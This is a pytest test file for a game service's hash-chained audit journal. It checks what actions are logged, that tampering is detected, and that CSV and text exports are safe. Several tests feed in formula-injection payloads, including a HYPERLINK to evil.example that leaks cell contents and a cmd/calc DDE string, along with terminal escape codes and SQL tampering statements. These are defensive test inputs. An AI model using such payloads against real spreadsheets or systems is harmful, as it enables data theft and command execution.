"""The journal: what is noted, by whom, and that a change of it is found."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from api.access.tokens import ALL_TABLES, Role, TokenRefusedError, create_token, revoke_token
from api.answers.rounds import Ended
from api.comma_separated import write_csv
from api.journal.chain import Head, JournalBrokenError, entries, journal_head, note, parse_head, verify
from api.journal.entry import Act, Deed, line_of
from api.journal.policies import Policies
from api.problems import Problem
from api.programs.cli import main
from api.restore.backup import opened_database
from api.restore.rebuild import rebuild
from api.rounds.tables import TableRefusedError, add_table, request_close
from api.server.app import create_app, create_engine_app
from api.sql.database import Database
from games.bets.catalogue import catalogue_paytable
from tests.support.calls import as_sent, call_of
from tests.support.commands import foredraw
from tests.support.databases import variables_of
from tests.support.documents import PAGES, fenced
from tests.support.in_process_service import ORIGIN, InProcessService
from tests.support.running_service import initialised, opened, wait_until
from tests.support.tampering import Refusal, refusing
from tests.support.tokens import UNKNOWN

pytestmark = pytest.mark.both_databases("its chain is of rows that nobody may change")

TABLE, GAME = "crash-1", "crash"
HOME = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}


@pytest.fixture
def inside(tmp_path: Path) -> Iterator[InProcessService]:
    """A service with one table."""
    made = InProcessService.create(tmp_path / "data", tables=[(TABLE, GAME)])
    yield made
    made.stop()


def database(inside: InProcessService) -> Database:
    """Its database."""
    return inside.service.database


def told(inside: InProcessService) -> list[tuple[str, str, str]]:
    """Who did what to what, in order."""
    return [(row.who, row.act, row.subject) for row in entries(database(inside))]


def values(inside: InProcessService, act: Act) -> list[tuple[Any, Any, str | None]]:
    """Before, after and reason of the entries about such an act."""
    return [
        (json.loads(row.before or "null"), json.loads(row.after or "null"), row.reason)
        for row in entries(database(inside))
        if row.act == act
    ]


def with_entries(inside: InProcessService, count: int) -> Head:
    """Append so many entries more; returns the head."""
    for number in range(count):
        note(
            database(inside),
            "2026-11-22T00:00:00.000Z",
            Deed("operator ani", Act.POLICY, "policy", after={"n": number}),
        )
    return journal_head(database(inside))


def confirm_machines_clock(folder: Path) -> str:
    """Confirm it with the time that it shows; returns that time."""
    (shown,) = re.findall(r"clock shows (\S{16})", foredraw(folder, "clock", "show").stdout)
    assert foredraw(folder, "clock", "confirm", f"{shown}Z").returncode == 0
    return str(shown)


# What is noted


def test_every_act_of_the_program_is_noted_with_the_account_that_ran_it(inside: InProcessService) -> None:
    """Each command that changes who may do what, or what is played, leaves one entry: who, what, before, after,
    why.
    """
    folder = inside.settings.folder

    def run(*arguments: str, status: int = 0) -> None:
        assert foredraw(folder, *arguments).returncode == status

    # The commands have the machine's clock, and the service in this process one of its own.
    confirm_machines_clock(folder)
    run("table", "add", "keno-1", "keno-express", "--timeout", "60")
    run("token", "create", "ani", "--role", "operator", "--all-tables")
    run("token", "revoke", "ani", "--reason", "she has left")
    inside.settle()
    run("round", "void", "keno-1", "1", "--reason", "engine failure", status=1)
    run("table", "close", "keno-1", "--wait", "0", "--reason", "season's end")
    account = told(inside)[-1][0]
    assert account.startswith("account ")
    assert told(inside)[2:] == [
        (account, "clock-confirm", "clock"),
        (account, "table-add", "keno-1"),
        (account, "token-create", "ani"),
        (account, "token-revoke", "ani"),
        (account, "round-void", "keno-1"),
        (account, "table-close", "keno-1"),
    ]
    (_, added, _) = values(inside, Act.TABLE_ADD)[-1]
    assert added == {
        "bets": "optional",
        "game": "keno-express",
        "lead": 2,
        "paytable": sha256(catalogue_paytable("keno-express", "") or b"").hexdigest(),
        "rules": {"version": 1},
        "salt": "none",
        "timeout": 60,
    }
    assert values(inside, Act.TOKEN_CREATE) == [(None, {"expires": None, "role": "operator", "tables": ["*"]}, None)]
    assert values(inside, Act.TOKEN_REVOKE) == [({"tokens": ["ani"]}, None, "she has left")]
    # The lock of the round that was given up was not published yet, so the command said that, and its act is noted.
    void = ({"round": 1, "status": "committed"}, {"round": 1, "status": "void"}, "engine failure")
    assert values(inside, Act.ROUND_VOID) == [void]
    assert values(inside, Act.TABLE_CLOSE) == [
        ({"closing": False, "next_round": 2}, {"closing": True}, "season's end")
    ]
    verify(database(inside))


def test_a_folders_first_entry_names_its_log_and_its_key(inside: InProcessService) -> None:
    """So a journal cannot be taken for another log's."""
    assert told(inside)[0] == ("service", "init", ORIGIN)
    assert values(inside, Act.INIT) == [(None, {"key": str(inside.key)}, None)]


def test_the_operators_page_notes_who_signed_in_and_what_they_did(inside: InProcessService) -> None:
    """By the token's name; a wrong token leaves no entry, so strangers do not fill the journal."""
    service = inside.service
    secret = create_token(service.database, service.clock, "ani", Role.OPERATOR, [ALL_TABLES])
    browser = create_app(service).test_client()

    def send(path: str, page: str, **form: str) -> int:
        found = re.findall(
            rf'action="{path}".*?name="form_token" value="([0-9a-f]+)"', browser.get(page).text, re.DOTALL
        )
        return browser.post(
            path, data={**form, **({"form_token": found[0]} if found else {})}, headers=HOME
        ).status_code

    assert send("/ops/login", "/ops/login", token=UNKNOWN) == 403
    assert send("/ops/login", "/ops/login", token=secret) == 303
    added = {"name": "new", "game": "crash", "lead": "", "timeout": "300", "bets": "optional"}
    assert send("/ops/tables/add", "/ops/tables/add", **added, rtp="97.00", cap="10000.00") == 303
    assert send(f"/ops/tables/{TABLE}/close", f"/ops/tables/{TABLE}/close", name=TABLE) == 303
    page = browser.get("/ops").text
    assert str(journal_head(service.database)) in page
    assert send("/ops/logout", "/ops") == 303
    assert [who_and_act for who_and_act in told(inside) if who_and_act[0] != "service"] == [
        ("operator ani", "sign-in", "ani"),
        ("operator ani", "table-add", "new"),
        ("operator ani", "table-close", TABLE),
        ("operator ani", "sign-out", "ani"),
    ]
    verify(service.database)


def test_what_is_refused_is_not_noted(inside: InProcessService) -> None:
    """The entry and its act are one transaction."""
    service, before = inside.service, told(inside)
    with pytest.raises(TableRefusedError):
        add_table(service.writer, TABLE, GAME)
    with pytest.raises(Problem):
        request_close(service.writer, "nowhere")
    with pytest.raises(TokenRefusedError):
        revoke_token(service.database, service.clock, "nobody")
    assert told(inside) == before


@pytest.mark.parametrize("name", ["", "x" * 65, "two\nlines", "\x1b[31m", "\udcff"])
def test_a_tokens_name_can_stand_in_a_line(name: str, inside: InProcessService) -> None:
    """Names stand in the journal, in messages and on the page."""
    with pytest.raises(TokenRefusedError, match="printable"):
        create_token(database(inside), inside.service.clock, name, Role.ENGINE, [ALL_TABLES])


def test_a_clock_is_confirmed_after_it_was_noted(inside: InProcessService) -> None:
    """A time that is not the clock's is refused, and leaves no entry."""
    folder, before = inside.settings.folder, told(inside)
    assert foredraw(folder, "clock", "confirm", "2001-01-01T00:00Z").returncode == 1
    assert told(inside) == before
    shown = confirm_machines_clock(folder)
    ((_, after, _),) = values(inside, Act.CLOCK_CONFIRM)
    assert after["time"] >= shown


def test_another_policy_is_noted_once_also_across_restarts(inside: InProcessService) -> None:
    """The journal itself says which policy was last; a service without one notes nothing."""

    def look(*digests: str | None) -> None:
        policies = Policies(database(inside), inside.service.timekeeper.shown)
        for digest in digests:
            policies.look(digest)

    look(None, None)
    assert values(inside, Act.POLICY) == []
    look("aa", "aa")
    look("aa", "bb", None)
    look(None)
    assert [(before, after) for before, after, _ in values(inside, Act.POLICY)] == [
        (None, {"sha256": "aa"}),
        ({"sha256": "aa"}, {"sha256": "bb"}),
        ({"sha256": "bb"}, None),
    ]


# Outcomes that are not revealed yet


def test_who_reads_an_outcome_before_its_reveal_is_noted(inside: InProcessService) -> None:
    """The token that locks a round is told its outcome, and repeats its call unnoted; any other is noted once a
    round.
    """
    service = inside.service
    app = create_engine_app(service)
    tokens = {
        name: create_token(service.database, service.clock, name, Role.ENGINE, [ALL_TABLES])
        for name in ("mine", "other")
    }

    def call(token: str, action: str, body: dict[str, object] | None = None) -> int:
        path = f"/v1/engine/tables/{TABLE}/rounds/1/{action}"
        headers = {"Authorization": f"Bearer {tokens[token]}"}
        return app.test_client().post(path, json=as_sent(path, body or {}), headers=headers).status_code

    bets: dict[str, object] = {"bets": [{"bet": "auto-cash-out", "stake": 100, "target": "2.00"}]}
    call("mine", "open")
    assert call("mine", "lock") == call("mine", "lock") == 200
    call("mine", "settle", bets)
    assert values(inside, Act.OUTCOME_READ) == []
    assert call("other", "lock") == call("other", "lock") == 200
    assert told(inside)[-1] == ("engine other", "outcome-read", TABLE)
    assert values(inside, Act.OUTCOME_READ) == [({"locked_by": "mine"}, {"round": 1}, None)]
    assert call("mine", "reveal") == 200
    # From now on everybody knows it.
    call("other", "settle", bets)
    assert len(values(inside, Act.OUTCOME_READ)) == 1


@pytest.mark.parametrize("steps", [0, 1, 2], ids=["never opened", "opened", "locked"])
def test_a_void_that_is_repeated_is_noted_once(inside: InProcessService, steps: int) -> None:
    """An engine, and an operator, repeats it each second while nothing is published."""
    rounds = inside.service.rounds
    if steps:
        rounds.open(TABLE, 1)
    if steps == 2:
        rounds.lock(TABLE, 1, None, call=call_of(TABLE, 1), by="mine")
    with inside.background_paused():
        for _ in range(3):
            rounds.void(TABLE, 1, "the wheel — stuck", by="mine")
    assert isinstance(rounds.void(TABLE, 1, "the wheel — stuck", by="mine"), Ended)
    ((_, after, reason),) = values(inside, Act.ROUND_VOID)
    assert (after, reason) == ({"round": 1, "status": "void", "sent": "the wheel — stuck"}, "the wheel ? stuck")


def test_settling_a_locked_round_is_a_reading_too(inside: InProcessService) -> None:
    """A settlement tells what a bet wins, and so the outcome."""
    rounds = inside.service.rounds
    rounds.open(TABLE, 1)
    rounds.lock(TABLE, 1, None, call=call_of(TABLE, 1), by="mine")
    assert rounds.locked_outcome(TABLE, 1, by="mine") is not None
    assert values(inside, Act.OUTCOME_READ) == []
    assert rounds.locked_outcome(TABLE, 1, by="other") is not None
    assert values(inside, Act.OUTCOME_READ) == [({"locked_by": "mine"}, {"round": 1}, None)]


def test_no_outcome_is_told_that_cannot_be_noted(inside: InProcessService) -> None:
    """The entry is durable before the answer."""
    rounds = inside.service.rounds
    rounds.open(TABLE, 1)
    rounds.lock(TABLE, 1, None, call=call_of(TABLE, 1), by="mine")
    with refusing(inside, "INSERT", "journal"), pytest.raises(Refusal):
        rounds.lock(TABLE, 1, None, call=call_of(TABLE, 1), by="other")
    assert rounds.lock(TABLE, 1, None, call=call_of(TABLE, 1), by="other").is_published


# What is found


CHANGES = {
    "a changed name": ("UPDATE journal SET who = 'operator eve' WHERE number = 3", r"entry 4 was written after"),
    "a changed reason": ("UPDATE journal SET reason = 'x' WHERE number = 2", r"entry 3 was written after"),
    "another spelling": ("UPDATE journal SET after = ' ' || after WHERE number = 3", r"entry 4 was written after"),
    "no JSON": ("UPDATE journal SET after = 'x' WHERE number = 3", r"entry 4 was written after"),
    "a changed first entry": ("UPDATE journal SET previous = who WHERE number = 1", r"entry 1 was written after"),
    "a changed last entry": ("UPDATE journal SET who = 'x' WHERE number = 7", r"entry 7: expected the hash"),
    "a missing entry": ("DELETE FROM journal WHERE number = 4", r"entry 4 is missing: the next one is 5"),
    "a missing first entry": ("DELETE FROM journal WHERE number = 1", r"entry 1 is missing"),
    "a missing last entry": ("DELETE FROM journal WHERE number = 7", r"ends at entry 6: expected entry 7"),
    "all missing": ("DELETE FROM journal", r"ends at entry 0: expected entry 7"),
    "a moved entry": ("UPDATE journal SET number = 9 WHERE number = 7", r"entry 7 is missing: the next one is 9"),
    "another head": ("UPDATE journal_head SET hash = substr(hash || '0', 2)", r"entry 7: expected the hash"),
    "a missing head": ("DELETE FROM journal_head", r"the head is 0, and there is an entry 7"),
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_what_was_changed_is_found(change: tuple[str, str], inside: InProcessService) -> None:
    """Whatever happens to a row, `--verify` says at which entry, with status 2; before, it says that all is well."""
    head = with_entries(inside, 5)
    folder = inside.settings.folder
    before = foredraw(folder, "journal", "--verify")
    assert (before.returncode, before.stdout) == (0, f"7 entries, none changed. The head is {head}\n")
    statement, words = change
    assert inside.tamper(statement) > 0
    after = foredraw(folder, "journal", "--verify")
    assert (after.returncode, after.stdout) == (2, "")
    assert re.search(rf"^foredraw: the journal was changed: .*{words}", after.stderr)


def test_only_a_kept_head_shows_that_the_end_was_cut_off(inside: InProcessService) -> None:
    """Whoever cuts off the end and moves the head back is not found without one."""
    kept, folder = with_entries(inside, 5), inside.settings.folder
    shown = foredraw(folder, "journal", "--head").stdout.strip()
    assert parse_head(shown) == kept
    longer = with_entries(inside, 1)
    said = foredraw(folder, "journal", "--verify", "--continues", shown).stdout
    assert said == f"8 entries, none changed. It continues the head 7. The head is {longer}\n"
    ((hashed,),) = inside.query("SELECT previous FROM journal WHERE number = 6")
    inside.tamper("DELETE FROM journal WHERE number >= 6")
    inside.tamper("UPDATE journal_head SET number = 5, hash = ?", hashed)
    assert verify(database(inside)).number == 5
    with pytest.raises(JournalBrokenError, match="ends at entry 5: expected entry 7"):
        verify(database(inside), kept)
    # Nor does it help to write others in their place.
    with_entries(inside, 2)
    assert verify(database(inside)).number == 7
    note(database(inside), "2026-11-22T00:00:00.000Z", Deed("operator eve", Act.POLICY, "policy"))
    inside.tamper("DELETE FROM journal WHERE number > 6")
    with pytest.raises(JournalBrokenError):
        verify(database(inside), kept)


def test_a_journal_that_was_written_again_is_found_by_a_kept_head(inside: InProcessService) -> None:
    """The chain of another history has another hash at the same number."""
    kept = Head(2, "0" * 64)
    with_entries(inside, 5)
    with pytest.raises(JournalBrokenError, match=r"entry 2: expected the hash 0{64}"):
        verify(database(inside), kept)


@pytest.mark.parametrize(
    "text", ["", "7", "7:", f"07:{'0' * 64}", f"7:{'A' * 64}", f" 7:{'0' * 64}", f"7:{'0' * 64}\n"]
)
def test_a_head_has_one_spelling(text: str, inside: InProcessService) -> None:
    """Anything else is refused, and so is a head that is not going to be compared."""
    assert parse_head(text) is None
    assert foredraw(inside.settings.folder, "journal", "--verify", "--continues", text).returncode == 2
    assert foredraw(inside.settings.folder, "journal", "--continues", f"7:{'0' * 64}").returncode == 2


def test_many_writers_make_one_chain(inside: InProcessService) -> None:
    """Two processes, each with many threads, append without a gap and without a wait for one another's mistakes."""
    with opened_database(inside.settings) as other, ThreadPoolExecutor(16) as pool:
        both = [database(inside), other]

        def write(number: int) -> None:
            note(both[number % 2], "2026-11-22T00:00:00.000Z", Deed(f"engine {number}", Act.OUTCOME_READ, TABLE))

        list(pool.map(write, range(200)))
    assert verify(database(inside)).number == 202
    assert len({row.who for row in entries(database(inside))}) == 201


# What is exported


def test_lines_of_json_can_be_checked_with_sha256_alone(inside: InProcessService) -> None:
    """Each line has the hash of the one before, as docs/operating.md describes, and the last one's is the head."""
    with_entries(inside, 1200)
    lines = foredraw(inside.settings.folder, "journal", "--json").stdout.splitlines()
    previous = "0" * 64
    for number, line in enumerate(lines, 1):
        entry = json.loads(line)
        assert (entry["number"], entry["previous"]) == (number, previous)
        previous = sha256(b"foredraw/v1/journal\0" + line.encode()).hexdigest()
    assert Head(len(lines), previous) == journal_head(database(inside)) == verify(database(inside))


def test_an_auditor_checks_the_exported_lines_with_a_shell(inside: InProcessService, tmp_path: Path) -> None:
    """The block of docs/operating.md finds a line that was changed, dropped or exchanged, and prints the head."""
    (check,) = (block for block in fenced(PAGES[Path("docs/operating.md")], "sh") if "journal.jsonl" in block)
    with_entries(inside, 12)
    honest = foredraw(inside.settings.folder, "journal", "--json").stdout.splitlines()
    changed = honest[4].replace("operator", "auditor")
    assert changed != honest[4]
    kept = str(journal_head(database(inside)))
    for lines, strange, is_kept in (
        (honest, [], True),
        ([*honest[:4], changed, *honest[5:]], [honest[5]], True),
        ([*honest[:-1], honest[-1].replace("operator", "auditor")], [], False),
        # After a line that was dropped no number is right.
        ([*honest[:4], *honest[5:]], honest[5:], False),
        ([*honest[:4], honest[5], honest[4], *honest[6:]], [honest[5], honest[4], honest[6]], True),
    ):
        (tmp_path / "journal.jsonl").write_text("".join(f"{line}\n" for line in lines), "utf-8")
        told = subprocess.run(["sh", "-c", check], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
        *found, head = told.splitlines()
        assert found == [f"does not follow: {line}" for line in strange]
        assert (head == kept) is is_kept


def test_csv_and_text_have_every_entry(inside: InProcessService) -> None:
    """The same entries, with a head of names; the text shows nothing that a terminal would obey."""
    folder = inside.settings.folder
    create_token(database(inside), inside.service.clock, 'a "quoted", name', Role.ENGINE, [ALL_TABLES])
    rows = list(csv.DictReader(io.StringIO(foredraw(folder, "journal", "--csv").stdout)))
    assert [(row["who"], row["act"], row["subject"]) for row in rows] == told(inside)
    assert json.loads(rows[-1]["after"]) == {"expires": None, "role": "engine", "tables": ["*"]}
    inside.tamper("UPDATE journal SET who = '\x1b[31m' WHERE number = 3")
    text = foredraw(folder, "journal").stdout
    assert len(text.splitlines()) == 3
    assert 'a "quoted", name' in text
    assert "\x1b" not in text


@pytest.mark.parametrize("begin", ["=", "+", "-", "@"])
def test_no_cell_of_the_csv_is_a_formula(inside: InProcessService, begin: str) -> None:
    """A name from outside is text in a spreadsheet; the lines of JSON have it as it was given."""
    folder, name = inside.settings.folder, f'{begin}HYPERLINK("https://evil.example/?x="&A1)'
    create_token(database(inside), inside.service.clock, name, Role.ENGINE, [ALL_TABLES])
    *_, row = csv.DictReader(io.StringIO(foredraw(folder, "journal", "--csv").stdout))
    assert row["subject"] == f"'{name}"
    assert json.loads(foredraw(folder, "journal", "--json").stdout.splitlines()[-1])["subject"] == name


def test_whatever_begins_a_formula_is_text_and_numbers_stay_numbers() -> None:
    """Tabs, ends of lines and the wide forms of the four characters, too."""
    file = io.StringIO()
    write_csv(file, [["\tx", "a\r=x", "\n=x", "\uff1dx", "a=x", "", -1, None]])
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert row == ["'\tx", "a\u240d=x", "'\n'=x", "'\uff1dx", "a=x", "", "-1", ""]


@pytest.mark.parametrize(
    ("text", "is_date"),
    [
        *((each, True) for each in ("4/5", "180:1", "1.5", "1-2-2026", "may-5", "DEC 12", "5 Sep 2026", "1:30 pm")),
        *(
            (each, False)
            for each in ("keno-1", "mayor-of-5", "180 to 1", "2026-11-27T10:00:00.000Z", "5", "x 12", "")
        ),
    ],
)
def test_a_text_that_looks_like_a_date_is_text(text: str, is_date: bool) -> None:
    """A spreadsheet would turn it into one, and never back. Times of ours are times."""
    file = io.StringIO()
    write_csv(file, [[text, 5]])
    ((cell, number),) = csv.reader(io.StringIO(file.getvalue()))
    assert (cell, number) == (f"'{text}" if is_date else text, "5")


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("between", ["{}", "{} ", '{}"', '{} "', "\n", "\n{}", "{}\n"])
def test_no_cell_is_a_formula_to_who_separates_otherwise(separator: str, between: str) -> None:
    """As spreadsheets do where a comma is the decimal sign; a number after a semicolon alone stays as it is."""
    file = io.StringIO()
    write_csv(file, [[1, f"stuck{between.format(separator)}=cmd|' /C calc'!A0", f"a{separator}1"]])
    cells = [
        cell for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator) for cell in row
    ]
    assert not [cell for cell in cells if cell.strip().startswith("=")]
    assert f"a{separator}1" in file.getvalue()


# What rebuilding leaves


def test_a_rebuild_keeps_the_journal_and_is_noted(inside: InProcessService) -> None:
    """The chain goes on, and a head that was kept before is continued."""
    kept = with_entries(inside, 3)
    inside.stop()
    made = rebuild(inside.settings, by="account ani")
    inside.start_without_sequencer()
    assert told(inside)[-1] == ("account ani", "rebuild", "foredraw.db")
    assert values(inside, Act.REBUILD) == [(None, {"discarded": 0, "lost": [], "records": made.size}, None)]
    assert verify(database(inside), kept).number == kept.number + 1


@pytest.mark.one_database("a text that is none: a server refuses it")
def test_a_rebuild_hides_no_entry_that_was_lost(inside: InProcessService) -> None:
    """What is missing is counted, and stays missing in the chain."""
    with_entries(inside, 3)
    inside.tamper("UPDATE journal SET who = X'ff' WHERE number = 3")
    inside.stop()
    assert rebuild(inside.settings).lost == ["entries of the journal: 1, of 5"]
    inside.start_without_sequencer()
    with pytest.raises(JournalBrokenError, match="entry 3 is missing"):
        verify(database(inside))


@pytest.mark.one_database("the file is lost; a database on a server is made again from the log by its own tests")
def test_a_rebuild_without_the_old_database_begins_another_journal(inside: InProcessService) -> None:
    """Its first entry is the rebuild, which says what was lost; a kept head shows that it is another one."""
    kept = with_entries(inside, 3)
    inside.stop()
    for ending in ("", "-wal", "-shm"):
        inside.settings.database.with_name(f"foredraw.db{ending}").unlink(missing_ok=True)
    assert "the journal: all of it, if there was one" in rebuild(inside.settings).lost
    inside.start_without_sequencer()
    assert told(inside) == [("service", "rebuild", "foredraw.db")]
    verify(database(inside))
    with pytest.raises(JournalBrokenError):
        verify(database(inside), kept)


@pytest.mark.parametrize("charset", ["koi8-r", "iso-8859-1", "cp437", "cp850"])
def test_what_a_locale_cannot_encode_is_escaped(inside: InProcessService, charset: str) -> None:
    """Nothing is left out, and no traceback; lines of JSON are the bytes that are hashed, in any locale."""
    reason = "пауза: łódź — Երեւան"
    note(
        database(inside),
        "2026-11-22T00:00:00.000Z",
        Deed("operator ani", Act.POLICY, "policy", after={"n": 1}, reason=reason),
    )
    note(database(inside), "2026-11-22T00:00:00.000Z", Deed("operator ani", Act.POLICY, "policy", {"n": 1}, {"n": 2}))
    variables = variables_of(inside.settings.folder)

    def ran(form: str) -> bytes:
        arguments = ["--data", str(inside.settings.folder), "journal", *([form] if form else [])]
        result = CliRunner(charset=charset, env=variables).invoke(main, arguments)
        assert (result.exception, result.exit_code, result.stderr) == (None, 0, "")
        return result.stdout_bytes

    for form in ("", "--csv"):
        assert reason.encode(charset, "backslashreplace") in ran(form)
    assert "\N{RIGHTWARDS ARROW}".encode(charset, "backslashreplace") in ran("")
    assert ran("--json").splitlines() == [line_of(row) for row in entries(database(inside))]


@pytest.mark.nightly("starts a service twice")
def test_a_policy_that_is_exchanged_under_a_running_service_is_noted(tmp_path: Path) -> None:
    """The first one, the next one within moments, and none twice across a restart; the chain is whole at any time."""
    service, policy = initialised(tmp_path / "data", {"keno-1": "keno-express"}), tmp_path / "policy"
    service.variables = {"FOREDRAW_POLICY": str(policy)}
    texts = [f"log {service.key}\nquorum none\n", f"# another\nlog {service.key}\nquorum none\n"]

    def noted() -> list[str]:
        with opened(service.settings) as inside:
            return [row.after or "" for row in entries(inside.database) if row.act == "policy"]

    def exchange(text: str) -> str:
        fresh = policy.with_name("fresh")
        fresh.write_text(text, encoding="ascii")
        fresh.replace(policy)
        return f'{{"sha256":"{sha256(text.encode()).hexdigest()}"}}'

    expected = [exchange(texts[0])]
    try:
        service.start()
        wait_until(lambda: noted() == expected, "the first policy to be noted")
        expected.append(exchange(texts[1]))
        wait_until(lambda: noted() == expected, "the second policy to be noted")
        service.play("keno-1", 1)
        checked = service.foredraw("journal", "--verify")
        assert checked.returncode == 0, checked.stderr
        assert service.stop() == 0
        service.start()
        expected.append(exchange(texts[0]))
        wait_until(lambda: noted() == expected, "the policy to be noted again")
        assert service.stop() == 0
        with opened(service.settings) as inside:
            assert verify(inside.database).number == len(list(entries(inside.database)))
    finally:
        service.clean_up()
